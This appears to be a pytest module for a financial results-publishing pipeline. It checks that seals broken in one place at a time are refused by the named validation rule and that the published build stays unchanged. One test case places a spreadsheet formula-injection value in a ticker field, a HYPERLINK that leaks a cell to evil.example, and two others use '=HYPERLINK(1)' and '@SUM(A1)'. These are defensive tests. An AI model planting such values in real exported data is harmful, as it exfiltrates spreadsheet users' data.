"""One refusal per validation rule: a copy of a valid seal is broken in one place; the build is
refused naming the rule and the kind, and the alpha's published build stays byte-identical."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from alpha_results_seal.rules import RULES, SealRejected
from pipeline.publish import publish_seal
from tests.pipeline.conftest import copy_seal
from tests.support.seal_edits import add_to, edit, edit_manifest, on, set_cell, snapshot


def drop_column(relative: str, column: str) -> Callable[[Path], None]:
    def mutate(seal: Path) -> None:
        pq.write_table(pq.read_table(seal / relative).drop_columns([column]), seal / relative)

    return mutate


def null_cell(relative: str, column: str) -> Callable[[Path], None]:
    def mutate(seal: Path) -> None:
        table = pq.read_table(seal / relative)
        values = table.column(column).to_pylist()
        values[1] = None
        index = table.schema.get_field_index(column)
        loose = table.schema.set(index, table.schema.field(column).with_nullable(True))
        table = table.cast(loose).set_column(
            index,
            table.schema.field(column).with_nullable(True),
            pa.array(values, table.schema.field(column).type),
        )
        pq.write_table(table, seal / relative)

    return mutate


def far_date(relative: str, column: str, days: int) -> Callable[[Path], None]:
    """Row 1's date set `days` after 1970-01-01, written as the stored integer (a date past year
    9999 cannot be made in Python, which is the damage this stands for)."""

    def mutate(seal: Path) -> None:
        table = pq.read_table(seal / relative)
        values = table.column(column).cast(pa.int32()).to_pylist()
        values[1] = days
        index = table.schema.get_field_index(column)
        far = pa.array(values, pa.int32()).cast(pa.date32())
        pq.write_table(table.set_column(index, table.schema.field(column), far), seal / relative)

    return mutate


def edit_description(seal: Path) -> None:
    description = json.loads((seal / "description.json").read_text())
    description["source_papers"][1]["role"] = "seed"
    (seal / "description.json").write_text(json.dumps(description))


def reseal_manifest_tldr_only(seal: Path) -> None:
    """A reseal that changed the manifest's tldr and left description.json's as it was."""
    edit_manifest(lambda m: m.update(tldr="A second sealing, with a new summary."))(seal)


def corrupt_archive(seal: Path) -> None:
    (seal / "source.zip").write_bytes(b"PK\x05\x06" + b"\1" * 18)


def duplicate_first_row(frame: pl.DataFrame) -> pl.DataFrame:
    return pl.concat([frame, frame.head(1)])


untradeable = ~pl.col("next_open_tradeable")
held_long_only = pl.col("next_open_tradeable") & (pl.col("long_only_target_weight") > 0)
pending_week = pl.col("date") == pl.col("date").max()

ALPHA_CASES: list[tuple[str, str, Callable[[Path], None]]] = [
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(universe_size="many"))),
    # research_cutoff: a calendar date or null, never a timestamp or a date that does not exist.
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(research_cutoff="2023-02-30"))),
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(research_cutoff="2023-02-01T00:00:00"))),
    # family and parameters (optional, untrusted): a slug, a flat mapping of slugs to finite numbers or short texts
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(family="Bad Family"))),
    (
        "manifest.fields",
        "manifest",
        edit_manifest(lambda m: m.update(parameters={"lookback": {"nested": 1}})),
    ),
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(parameters={"Bad Name": 1}))),
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(parameters={"note": "has spaces"}))),
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(parameters={"flag": True}))),
    ("manifest.fields", "manifest", edit_manifest(lambda m: m.update(parameters={"x": float("nan")}))),
    (
        "manifest.fields",
        "manifest",
        edit_manifest(lambda m: m.update(parameters={f"p{i}": i for i in range(33)})),
    ),
    ("manifest.kinds_present", "pnl", lambda seal: (seal / "pnl" / "long_only.parquet").unlink()),
    ("schema.columns", "decisions", drop_column("decisions.parquet", "average_rank")),
    ("schema.not_null", "positions", null_cell("positions/long_short.parquet", "quantity")),
    ("schema.date_range", "pnl", far_date("pnl/long_short.parquet", "date", 3_000_000)),
    # an infinity passes every identity (the tolerance scales with it): its own rule refuses it
    (
        "schema.finite_numbers",
        "portfolio",
        on("portfolio/long_short.parquet", set_cell("cash_end", 3, float("inf"))),
    ),
    ("schema.finite_numbers", "trades", on("trades/long_only.parquet", set_cell("fee", 0, float("-inf")))),
    (
        "symbols.ticker_pattern",
        "positions",
        on(
            "positions/long_only.parquet",
            set_cell("symbol", 3, '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'),
        ),
    ),
    ("rebalances.unique_dates", "rebalances", on("rebalances.parquet", duplicate_first_row)),
    (
        "rebalances.week_status_values",
        "rebalances",
        on("rebalances.parquet", set_cell("week_status", 2, "skipped")),
    ),
    ("decisions.unique_date_symbol", "decisions", on("decisions.parquet", duplicate_first_row)),
    ("exposures.unique_date_symbol", "exposures", on("exposures.parquet", duplicate_first_row)),
    (
        "exposures.rebalance_dates",
        "exposures",
        on("exposures.parquet", set_cell("date", 3, dt.date(2023, 1, 7))),
    ),
    ("exposures.sector_text", "exposures", on("exposures.parquet", set_cell("sector", 2, "=HYPERLINK(1)"))),
    ("exposures.sector_text", "exposures", on("exposures.parquet", set_cell("sector", 2, "x" * 65))),
    ("exposures.finite_values", "exposures", on("exposures.parquet", set_cell("beta", 5, float("nan")))),
    ("exposures.finite_values", "exposures", on("exposures.parquet", set_cell("adv", 5, float("inf")))),
    ("exposures.adv_positive", "exposures", on("exposures.parquet", set_cell("adv", 7, 0.0))),
    (
        "rebalances.decisions_join",
        "decisions",
        on("decisions.parquet", set_cell("date", 3, dt.date(2023, 1, 7))),
    ),
    (
        "decisions.score_is_direction_times_confidence",
        "decisions",
        on("decisions.parquet", add_to({"confidence": 0.5}, pl.col("direction") != 0)),
    ),
    (
        "decisions.raw_score_is_raw_direction_times_raw_confidence",
        "decisions",
        on("decisions.parquet", add_to({"raw_confidence": 0.5}, pl.col("raw_direction") != 0)),
    ),
    (
        "decisions.direction_is_sign_of_score",
        "decisions",
        on(
            "decisions.parquet",
            lambda f: f.with_columns(
                pl.when(pl.int_range(pl.len()) == 4).then(-pl.col(c)).otherwise(pl.col(c)).alias(c)
                for c in ("direction", "confidence")
            ),
        ),
    ),
    (
        "decisions.reason_values",
        "decisions",
        on("decisions.parquet", set_cell("decision_reason", 5, "@SUM(A1)")),
    ),
    (
        "decisions.untradeable_has_zero_weights_and_reason",
        "decisions",
        on(
            "decisions.parquet",
            lambda f: f.with_columns(
                pl.when(untradeable)
                .then(pl.lit("asleep"))
                .otherwise(pl.col("unavailability_reason"))
                .alias("unavailability_reason")
            ),
        ),
    ),
    (
        "decisions.long_only_weights_sum_to_one",
        "decisions",
        on("decisions.parquet", add_to({"long_only_target_weight": 0.01}, held_long_only)),
    ),
    (
        "decisions.pending_week_has_no_fill_or_forward_return",
        "decisions",
        on(
            "decisions.parquet",
            lambda f: f.with_columns(
                pl.when(pending_week)
                .then(pl.lit(0.01))
                .otherwise(pl.col("forward_return"))
                .alias("forward_return")
            ),
        ),
    ),
    (
        "ledger.ending_equity_identity",
        "portfolio",
        on("portfolio/long_short.parquet", add_to({"cash_carry": 1e-3}, pl.int_range(pl.len()) == 3)),
    ),
    (
        "ledger.cash_plus_positions_is_equity",
        "portfolio",
        on("portfolio/long_short.parquet", add_to({"cash_end": 1e-3}, pl.int_range(pl.len()) == 3)),
    ),
    (
        "ledger.starting_equity_chain",
        "portfolio",
        on(
            "portfolio/long_only.parquet",
            add_to(
                {"starting_equity": 1e-3, "ending_equity": 1e-3, "cash_end": 1e-3},
                pl.int_range(pl.len()) == 0,
            ),
        ),
    ),
    (
        "pnl.net_pnl_sums_to_equity_change",
        "pnl",
        on("pnl/long_short.parquet", add_to({"market_pnl": 1e-4}, pl.int_range(pl.len()) == 17)),
    ),
    (
        "pnl.sums_to_ledger",
        "pnl",
        on(
            "pnl/long_short.parquet",
            add_to({"market_pnl": 1e-4, "execution_cost": -1e-4}, pl.int_range(pl.len()) == 17),
        ),
    ),
    (
        "trades.decision_at_joins_rebalance",
        "trades",
        on("trades/long_short.parquet", set_cell("decision_at", 0, dt.date(2023, 1, 5))),
    ),
    ("trades.enums", "trades", on("trades/long_only.parquet", set_cell("phase", 0, "reopen"))),
    (
        "trades.variants_are_subsets",
        "trades",
        on("trades/long_short_adjustments.parquet", add_to({"quantity": 1.0}, pl.int_range(pl.len()) == 0)),
    ),
    (
        "description.json_object",
        "description",
        lambda seal: (seal / "description.json").write_text("[1, 2, 3]"),
    ),
    ("description.exactly_one_seed", "description", edit_description),
    ("description.tldr_matches_manifest", "description", reseal_manifest_tldr_only),
    ("source.sha256_matches", "source", corrupt_archive),
]


@pytest.fixture()
def published(tmp_path: Path, factory_seal: Path) -> tuple[Path, dict[str, bytes]]:
    lake = tmp_path / "lake"
    assert publish_seal(str(factory_seal), str(lake)).status == "published"
    return lake, snapshot(lake)


@pytest.mark.parametrize(("rule", "kind", "mutate"), ALPHA_CASES, ids=[c[0] for c in ALPHA_CASES])
def test_broken_seal_is_refused_and_old_build_stays(
    rule: str, kind: str, mutate: Callable[[Path], None], tmp_path: Path, factory_seal: Path, published
) -> None:
    lake, before = published
    broken = copy_seal(factory_seal, tmp_path / "broken")
    mutate(broken)
    with pytest.raises(SealRejected) as caught:
        publish_seal(str(broken), str(lake))
    assert (caught.value.rule, caught.value.kind) == (rule, kind), caught.value.report()
    assert snapshot(lake) == before


def test_report_quotes_counts_and_samples(tmp_path: Path, factory_seal: Path) -> None:
    broken = copy_seal(factory_seal, tmp_path / "broken")
    on("portfolio/long_short.parquet", add_to({"cash_end": 1e-3}, pl.int_range(pl.len()) == 3))(broken)
    with pytest.raises(SealRejected) as caught:
        publish_seal(str(broken), str(tmp_path / "lake"))
    rejection = caught.value
    assert rejection.message.startswith("1 of 35 rows")
    assert len(rejection.samples) == 1 and rejection.samples[0]["book"] == "long_short"
    assert "ledger.cash_plus_positions_is_equity" in rejection.report()


def test_benchmark_close_must_be_positive(tmp_path: Path, benchmark_seal: Path) -> None:
    broken = copy_seal(benchmark_seal, tmp_path / "broken")
    edit(broken / "daily.parquet", set_cell("close", 4, -1.0))
    with pytest.raises(SealRejected) as caught:
        publish_seal(str(broken), str(tmp_path / "lake"))
    assert (caught.value.rule, caught.value.kind) == ("benchmark.dates_ascending_positive_close", "benchmark")
    assert not (tmp_path / "lake" / "benchmarks").exists()


# Rules whose refusals are tested in their own module (the seal's files, before any table is read).
TESTED_ELSEWHERE = {
    "seal.regular_files": "test_seal_ownership.py",
    "seal.size_limits": "test_seal_limits.py",
    "family.owner": "test_family_owners.py",
    "family.members": "test_family_owners.py",
    **{
        f"{kind}.{rule}": "test_seal_text.py"
        for kind in ("manifest", "description")
        for rule in ("text_bounds", "no_bidi_controls")
    },
}


def test_every_rule_has_a_refusal_test() -> None:
    tested = {c[0] for c in ALPHA_CASES} | {"benchmark.dates_ascending_positive_close"}
    assert tested | set(TESTED_ELSEWHERE) == set(RULES)
    for rule, module in TESTED_ELSEWHERE.items():
        assert f'"{rule}"' in (Path(__file__).parent / module).read_text(), (rule, module)


def test_cli_exits_non_zero_and_prints_the_report(tmp_path: Path, factory_seal: Path, capsys) -> None:
    from cli.main import main

    broken = copy_seal(factory_seal, tmp_path / "broken")
    edit_description(broken)
    assert main(["build", str(broken), "--lake", str(tmp_path / "lake"), "--jobs", "1"]) == 1
    out = capsys.readouterr().out
    assert "refused" in out and "description.exactly_one_seed" in out


def test_a_tldr_that_differs_between_manifest_and_description_is_refused_with_both_texts(
    tmp_path: Path, factory_seal: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The catalogue serves the manifest's tldr and the description description.json's: a seal
    saying two things is refused, the report quoting both and saying how to fix the seal."""
    from cli.main import main

    broken = copy_seal(factory_seal, tmp_path / "broken")
    reseal_manifest_tldr_only(broken)
    assert main(["build", str(broken), "--lake", str(tmp_path / "lake"), "--jobs", "1"]) == 1
    out = capsys.readouterr().out
    assert "refused" in out and "description.tldr_matches_manifest" in out
    assert "A second sealing, with a new summary." in out and "A seal built by hand for tests." in out
    assert "/v1/alphas" in out and "none in description.json" in out


@pytest.mark.parametrize("description_tldr", ["same", "absent", "null"])
def test_a_reseal_whose_tldrs_agree_is_published_and_served_alike(
    tmp_path: Path, factory_seal: Path, description_tldr: str
) -> None:
    """Both texts changed together, or description.json without a tldr (or a null one): published,
    and the catalogue entry and the description carry the manifest's new tldr."""
    from datasets import catalog

    lake = tmp_path / "lake"
    assert publish_seal(str(factory_seal), str(lake)).status == "published"
    resealed = copy_seal(factory_seal, tmp_path / "resealed")
    reseal_manifest_tldr_only(resealed)
    description = json.loads((resealed / "description.json").read_text())
    if description_tldr == "same":
        description["tldr"] = "A second sealing, with a new summary."
    elif description_tldr == "absent":
        del description["tldr"]
    else:
        description["tldr"] = None
    (resealed / "description.json").write_text(json.dumps(description))
    assert publish_seal(str(resealed), str(lake)).status == "published"
    build = catalog.current_build(str(lake), "Test_factory")
    assert build is not None
    served = catalog.read_description(str(lake), build)
    assert served is not None
    assert (
        catalog.read_alpha(str(lake), build)["tldr"]
        == served["tldr"]
        == "A second sealing, with a new summary."
    )


def test_the_first_publish_date_survives_a_republish_and_the_research_cutoff_is_kept(
    tmp_path: Path, factory_seal: Path, published: tuple[Path, dict[str, bytes]]
) -> None:
    lake, _ = published
    pointer_file = next(lake.glob("alphas/*/_current.json"))
    first = json.loads(pointer_file.read_text())
    assert first["first_published_at"] == first["published_at"]
    again = copy_seal(factory_seal, tmp_path / "again")
    edit_manifest(lambda m: m.update(research_cutoff="2021-06-30", name="A new build"))(again)
    assert publish_seal(str(again), str(lake)).status == "published"
    second = json.loads(pointer_file.read_text())
    assert second["build_id"] != first["build_id"]
    assert second["first_published_at"] == first["first_published_at"]
    entry = json.loads((pointer_file.parent / "builds" / second["build_id"] / "alpha.json").read_text())
    assert entry["first_published_at"] == first["first_published_at"]
    assert entry["research_cutoff"] == "2021-06-30"


def test_a_family_and_its_parameters_reach_the_build_and_the_catalogue_index(
    tmp_path: Path, factory_seal: Path, published: tuple[Path, dict[str, bytes]]
) -> None:
    from alpha_results_seal.storage import Storage
    from datasets import catalogue_index

    lake, _ = published
    again = copy_seal(factory_seal, tmp_path / "again")
    parameters = {"lookback_weeks": 12, "threshold": 0.5, "universe": "US-large"}
    edit_manifest(lambda m: m.update(family="momentum_search", parameters=parameters))(again)
    assert publish_seal(str(again), str(lake)).status == "published"
    pointer_file = next(lake.glob("alphas/*/_current.json"))
    build_id = json.loads(pointer_file.read_text())["build_id"]
    entry = json.loads((pointer_file.parent / "builds" / build_id / "alpha.json").read_text())
    assert entry["family"] == "momentum_search" and entry["parameters"] == parameters
    storage = Storage(str(lake))
    generation = catalogue_index.newest(storage, str(lake))
    assert generation is not None
    row = catalogue_index.read_index(storage, str(lake), generation).to_pylist()[0]
    assert row["family"] == "momentum_search" and json.loads(row["parameters"]) == parameters
